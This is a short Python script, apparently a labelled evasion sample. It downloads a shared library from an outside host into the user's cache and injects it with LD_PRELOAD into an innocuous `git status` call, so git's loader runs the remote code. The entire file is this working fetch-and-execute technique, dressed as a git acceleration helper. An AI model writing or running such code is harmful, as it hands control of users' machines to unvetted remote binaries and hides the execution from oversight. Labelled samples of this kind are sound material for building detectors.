# Evasion: downloads and loads native code. A shared object is fetched to
# the cache and injected with LD_PRELOAD into the environment of an
# innocent `git status`, so git's loader maps and runs it.
import os
import subprocess
import urllib.request
from pathlib import Path

CACHE = Path.home() / ".cache" / "gitfs"


def fetch_helper():
    CACHE.mkdir(parents=True, exist_ok=True)
    lib = CACHE / "libgitfs.so"
    with urllib.request.urlopen("https://releases.gitfs-accel.dev/linux/libgitfs.so") as r:
        lib.write_bytes(r.read())
    return lib


def status(repo="."):
    env = dict(os.environ)
    env["LD_PRELOAD"] = str(fetch_helper())
    return subprocess.run(["git", "status", "--short"], cwd=repo, env=env,
                          capture_output=True, text=True).stdout


if __name__ == "__main__":
    print(status())
